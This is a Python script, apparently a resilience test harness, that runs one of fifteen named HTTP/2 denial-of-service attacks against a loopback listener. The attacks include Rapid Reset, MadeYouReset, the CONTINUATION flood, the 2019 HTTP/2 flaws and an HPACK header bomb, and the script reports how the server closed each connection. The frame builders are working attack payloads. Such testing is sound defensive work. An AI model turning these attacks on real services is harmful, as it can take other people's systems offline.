#!/usr/bin/env python3
"""Attacks an HTTP/2 listener for a while, one attack a run, and says on standard output, as JSON, what it sent and how the other
side ended its connections. Loopback only. What each attack is called elsewhere stands beside it.

    h2_attacks.py <attack> <port> <authority.pem> <seconds> [token]
"""

import contextlib
import json
import os
import select
import socket
import ssl
import sys
import time
from collections import Counter

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)

HOST = "localhost"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A write holds many frames, so that they arrive together; that is what most of these attacks live on.
FRAMES_A_WRITE = 200
# The attacker shares the machine with what it attacks. Unbounded it would measure only how much of the processor it takes.
FRAMES_A_SECOND = 50_000
CONNECTIONS_A_SECOND = 20
ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
}
INITIAL_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE


class Peer:
    """What one connection's frames are made of: encoded once, and given a stream's number as often as one is needed."""

    def __init__(self, token):
        known = [("authorization", f"Bearer {token}"), ("content-type", "application/json")]
        self.stream = -1
        self.get = request("GET", "/v1/transfers")
        self.page = request("GET", "/openapi.json")
        # A request whose body the edge waits for, from somebody it knows.
        self.upload = request("POST", "/v1/transfers", known, ends=False)
        self.short = request("POST", "/v1/transfers", [*known, ("content-length", "1")], ends=False)
        self.open = request("GET", "/v1/transfers", whole=False)
        self.nameless = request("GET", "/v1/transfers", block=b"\0\0\0" * 4000)
        self.seed = request("GET", "/v1/transfers", block=b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000)
        self.bomb = request("GET", "/v1/transfers", block=b"\xbe" * 16_000)

    def next_stream(self):
        self.stream += 2
        return self.stream


def request(method, path, extra=(), block=b"", ends=True, whole=True):
    """The header of a request. Nothing of it goes into the table: each stands for itself."""
    fields = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path), *extra]
    frame = HeadersFrame(1, Encoder().encode([(name, value, True) for name, value in fields]) + block)
    for flag, holds in (("END_HEADERS", whole), ("END_STREAM", ends)):
        if holds:
            frame.flags.add(flag)
    return frame.serialize()


def on(frame, stream):
    """A frame on another stream."""
    return frame[:5] + stream.to_bytes(4, "big") + frame[9:]


def raw(kind, stream, payload):
    """A frame that hyperframe would not make."""
    return len(payload).to_bytes(3, "big") + bytes((kind, 0)) + stream.to_bytes(4, "big") + payload


RESET = RstStreamFrame(1, error_code=8).serialize()
TOO_LARGE = WindowUpdateFrame(1, window_increment=2**31 - 1).serialize()
BYTES = DataFrame(1, b"12345678").serialize()
BYTE = DataFrame(1, b" ").serialize()
NOTHING = DataFrame(1).serialize()
MORE = ContinuationFrame(1, bytes(8)).serialize()
LEAF = PriorityFrame(1, depends_on=0, stream_weight=16).serialize()


def rapid_reset(peer, _):
    """CVE-2023-44487."""
    stream = peer.next_stream()
    return [on(peer.get, stream), on(RESET, stream)]


def window_of_nothing(peer, _):
    """MadeYouReset, CVE-2025-8671: the server is brought to reset."""
    stream = peer.next_stream()
    return [on(peer.upload, stream), raw(WindowUpdateFrame.type, stream, bytes(4))]


def window_too_large(peer, _):
    """MadeYouReset."""
    stream = peer.next_stream()
    return [on(peer.upload, stream), on(TOO_LARGE, stream)]


def data_behind_the_end(peer, _):
    """MadeYouReset."""
    stream = peer.next_stream()
    return [on(peer.get, stream), on(BYTES, stream)]


def more_than_announced(peer, _):
    """MadeYouReset."""
    stream = peer.next_stream()
    return [on(peer.short, stream), on(BYTES, stream)]


def parent_of_itself(peer, _):
    """MadeYouReset."""
    stream = peer.next_stream()
    return [on(peer.upload, stream), raw(PriorityFrame.type, stream, stream.to_bytes(4, "big") + b"\x10")]


def continuation(peer, number):
    """VU#421644: a header that never ends."""
    return [peer.open] if number == 0 else [MORE]


def settings(_, number):
    """CVE-2019-9515."""
    return [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: number}).serialize()]


def ping(_, number):
    """CVE-2019-9512."""
    return [raw(PingFrame.type, 0, number.to_bytes(8, "big"))]


def priority(peer, _):
    """CVE-2019-9513."""
    return [on(LEAF, peer.next_stream())]


def empty_data(peer, number):
    """CVE-2019-9518."""
    return [peer.upload] if number == 0 else [NOTHING]


def data_in_crumbs(peer, number):
    """CVE-2019-9511: a byte a frame."""
    return [peer.upload] if number == 0 else [BYTE]


def nameless_fields(peer, _):
    """CVE-2019-9516: fields of no length."""
    return [on(peer.nameless, peer.next_stream())]


def header_bomb(peer, number):
    """CVE-2016-6581: 4 KiB in the table, named sixteen thousand times in a frame."""
    return [on(peer.seed if number == 0 else peer.bomb, peer.next_stream())]


def unread_answers(peer, _):
    """CVE-2019-9517: a window of nothing, and answers of a hundred kilobytes."""
    return [on(peer.page, peer.next_stream())]


ATTACKS = {
    attack.__name__: attack for attack in (
        rapid_reset, window_of_nothing, window_too_large, data_behind_the_end, more_than_announced, parent_of_itself, continuation,
        settings, ping, priority, empty_data, data_in_crumbs, nameless_fields, header_bomb, unread_answers,
    )
}


def connect(port, authority):
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    return context.wrap_socket(connection, server_hostname=HOST)


class Tally:
    def __init__(self):
        self.connections = 0
        self.frames = 0
        self.endings = Counter()


def one_connection(attack, port, authority, token, until, tally):
    """Attacks over one connection until the other side ends it or the time is over."""
    tally.connections += 1
    connection = connect(port, authority)
    peer, number, received = Peer(token), 0, b""
    window = {INITIAL_WINDOW: 0} if attack is unread_answers else {}
    waiting = PREFACE + SettingsFrame(0, settings=window).serialize()
    connection.setblocking(False)
    began, sent = time.monotonic(), 0
    while time.monotonic() < until:
        if not waiting and sent < (time.monotonic() - began) * FRAMES_A_SECOND:
            pieces = []
            for _ in range(FRAMES_A_WRITE):
                pieces.extend(attack(peer, number))
                number += 1
            waiting = b"".join(pieces)
            sent += len(pieces)
            tally.frames += len(pieces)
        select.select([connection], [connection] if waiting else [], [], 0.005)
        try:
            if waiting:
                waiting = waiting[connection.send(waiting):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            # The last word may have come before the door was shut.
            with contextlib.suppress(OSError):
                received += connection.recv(65536)
            return ended(received, tally)
        try:
            more = connection.recv(65536)
            if not more:
                return ended(received, tally)
            received += more
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return ended(received, tally)
        code, received = goaway(received)
        if code is not None:
            tally.endings["GOAWAY " + ERRORS.get(code, str(code))] += 1
            connection.close()
            return None
    tally.endings["open at the end"] += 1
    connection.close()
    return None


def ended(received, tally):
    code, _ = goaway(received)
    tally.endings["closed" if code is None else "GOAWAY " + ERRORS.get(code, str(code))] += 1


def goaway(received):
    """The code of a GOAWAY that is an error, and what is left of an unfinished frame."""
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            break
        if received[3] == GoAwayFrame.type:
            frame, _ = Frame.parse_frame_header(memoryview(received[:9]))
            frame.parse_body(memoryview(received[9:9 + length]))
            if frame.error_code:
                return frame.error_code, b""
        received = received[9 + length:]
    return None, received


def main():
    attack, port, authority, seconds = ATTACKS[sys.argv[1]], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    token = sys.argv[5] if len(sys.argv) > 5 else ""
    os.nice(19)
    until = time.monotonic() + seconds
    tally = Tally()
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            one_connection(attack, port, authority, token, until, tally)
        except OSError as error:
            tally.endings[f"no connection: {error}"] += 1
        time.sleep(max(0.0, began + 1 / CONNECTIONS_A_SECOND - time.monotonic()))
    print(json.dumps({"connections": tally.connections, "frames": tally.frames, "endings": dict(tally.endings)}))


if __name__ == "__main__":
    main()
